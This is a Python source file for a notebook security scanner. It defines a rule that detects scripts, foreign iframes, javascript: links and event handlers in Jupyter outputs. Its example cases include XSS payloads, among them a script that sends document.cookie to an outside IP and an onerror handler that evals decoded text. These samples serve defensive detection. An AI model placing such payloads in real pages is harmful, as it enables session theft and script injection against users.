"""Scripts and foreign pages in what a notebook shows."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from jupyter_mlsec.core.model import Edit, Fix, Hit, Severity, Span
from jupyter_mlsec.core.patterns import lazy
from jupyter_mlsec.core.rule import Bad, Good, Hint, family

if TYPE_CHECKING:
    from jupyter_mlsec.core.view import View

rule = family("outputs")

_HINTS = (
    Hint(
        "outputs.active",
        r"<(?:script|iframe|object|embed|base|meta)[ \t/>\n]|<(?:script|iframe|object|embed)$"
        r"|javascript:|[ \t\"'/]on(?:error|load|click|focus|mouse\w+|toggle|begin|start)[ \t]*=",
        ("<script", "<iframe", "<object", "<embed", "<base", "<meta", "javascript:", "on"),
        ignore_case=True,
    ),
    # how a text of the type application/javascript begins a line
    Hint(
        "outputs.script",
        r"^[ \t;]*(?:\(?function|(?:var|let|const)[ \t]|(?:document|window|element|IPython|Jupyter"
        r"|google\.colab|navigator|location)\.|fetch\(|alert\(|eval\(|require|\$\(|import\()",
        (
            *("function", "var ", "let ", "const ", "document.", "window.", "element.", "ipython."),
            *("jupyter.", "google.colab.", "navigator", "location", "fetch(", "alert(", "eval("),
            *("require", "$(", "import("),
        ),
    ),
)
_ACTIVE = lazy(
    r"<(?P<script>script)\b(?![^<>]{0,300}type=[\"'](?:application/(?:ld\+)?json|application/vnd|math/))"
    r"[^<>]{0,500}>"
    r"|<(?P<frame>iframe|object|embed)\b[^<>]{0,1000}>"
    r"|(?:href|src|action|data)\s*=\s*[\"']?\s*(?P<address>javascript:)(?!\s*(?:void|;|[\"']))[^\"'>]{0,200}"
    r"|<\w[^<>]{0,500}?\s(?P<handler>on(?:error|load|click|focus|mouse\w{1,9}|toggle|begin|start))"
    r"\s*=[^<>]{0,500}>",
    re.IGNORECASE,
)
# What draws for a library that everybody uses, by words of its script.
_LIBRARIES = tuple(
    """plotly bokeh vega altair tensorboard google.colab colab-df converttointeractive folium
    leaflet pyldavis mathjax datatable itables vis-network holoviews jupyter-widgets html-manager
    require.config wandb.ai d3js d3.v shap ipyvolume pythreejs deck.gl keplergl highcharts echarts
    jshtml _anim_ isinternetexplorer videojs model-viewer py3dmol 3dmol nglview ydata sweetviz
    displacy
    explainerdashboard facets what-if kaggle comet mlflow gradio""".split()
)
# Of another site, but for players of films.
_FOREIGN = lazy(
    r"(?:src|data)\s*=\s*[\"']?(?:https?:)?//(?!(?:www\.)?youtube(?:-nocookie)?\.com/embed/"
    r"|player\.vimeo\.com/|localhost|127\.)",
    re.IGNORECASE,
)
_FENCED = lazy(r"```[\s\S]*?(?:```|\Z)|~~~[\s\S]*?(?:~~~|\Z)|`[^`\n]*`")
_LONGEST = 1000  # characters of a tag that may go on behind its line
_NEAR = 4000  # characters behind a script's tag in which it says what it draws with
_SCRIPTED = ("application/javascript", "text/javascript")
_WHAT = {
    "script": "a script",
    "address": "an address that is a script",
    "handler": "a script that waits for an event",
}


@rule(
    "active-content-output",
    "An output or a text holds a script or a foreign page",
    severity=Severity.MEDIUM,
    hints=_HINTS,
    parts=("output", "source", "file"),
    languages=("html", "markdown", "text"),
    references=("CWE-79", "CWE-506", "AML.T0011"),
    aggregate="{count} kinds of active content: {subjects}. Clear these outputs, or strip them "
    "with `mlsec strip`",
    examples=(
        Bad(
            "<b>fine</b><script>fetch('https://203.0.113.5/?c=' + document.cookie)</script>",
            at="<script>",
            language="html",
        ),
        Bad('<img src="x" onerror="eval(atob(this.title))">',
            at='<img src="x" onerror="eval(atob(this.title))">', language="html"),
        Bad('<a href="javascript:alert(document.domain)">docs</a>',
            at='href="javascript:alert(document.domain)', language="html"),
        Bad('Read this.\n<script src="https://example.org/a.js"></script>',
            at='<script src="https://example.org/a.js">', language="markdown",
            fixed="Read this.\n</script>"),
        Bad('<iframe src="https://example.org/page"></iframe>',
            at='<iframe src="https://example.org/page">', language="html"),
        Good("Write `<script>` into the page.", because="code that is shown", language="markdown"),
        Good("```html\n<script>x()</script>\n```", because="it is shown", language="markdown"),
        Good("<table><tr><td>1</td></tr></table>", because="a table", language="html"),
        Good('<script type="application/json">{"a": 1}</script>', because="data", language="html"),
        Good("window.location is a property", because="words", language="text"),
        Good(
            '<iframe src="https://www.youtube.com/embed/Yffk5aydLzg"></iframe>',
            because="a film",
            language="html",
        ),
        Good('<a href="https://example.org">docs</a>', because="a link", language="html"),
    ),
)  # fmt: skip
def active_content_output(view: View) -> Iterator[Hit]:
    """Scripts in a saved output run for whoever opens a trusted notebook, its HTML export or a page
    that shows it: with a session on the Jupyter server they run code there. Nobody reviews them,
    and a diff does not show them.

    Scripts of well-known libraries that draw (Plotly, Bokeh, Vega, Colab and others) are reported
    as info, frames of other sites as low.
    """
    text = view.text
    if text.part == "output" and text.mime in _SCRIPTED:
        known = _is_library(view.source[:_NEAR])
        span = Span(0, min(len(view.source), 80))
        yield _hit(view, span, "a script", Severity.INFO if known else None)
        return
    if text.language not in ("html", "markdown") and text.mime != "image/svg+xml":
        return
    shown = [m.span() for m in _FENCED.finditer(view.source)] if text.language == "markdown" else []
    kinds = set()
    for line in view.marked("outputs.active"):
        for match in _ACTIVE.finditer(view.source, line.start, line.end + _LONGEST):
            kind = match.lastgroup or ""
            if kind in kinds or (kind == "frame" and not _FOREIGN.search(match[0])):
                continue
            if not any(a <= match.start() < b for a, b in shown):
                kinds.add(kind)
                yield _judged(view, match, kind)


def _judged(view: View, match: re.Match[str], kind: str) -> Hit:
    severity = None
    if kind == "frame":
        severity = Severity.LOW
    elif _is_library(view.source[match.start() : match.end() + _NEAR]):
        severity = Severity.INFO
    what = _WHAT.get(kind) or f"a page of another site ({match['frame'].lower()})"
    return _hit(view, Span(*match.span()), what, severity)


def _is_library(text: str) -> bool:
    lowered = text.lower()
    return any(word in lowered for word in _LIBRARIES)


def _hit(view: View, span: Span, what: str, severity: Severity | None) -> Hit:
    message = f"{what} in what the notebook shows: remove it, or strip it with `mlsec strip`"
    fix = None
    if view.text.part != "output":
        fix = Fix((Edit(span, "", view.text.cell),), False, "remove it")
    return Hit(span, message, fix, subject=what, severity=severity)
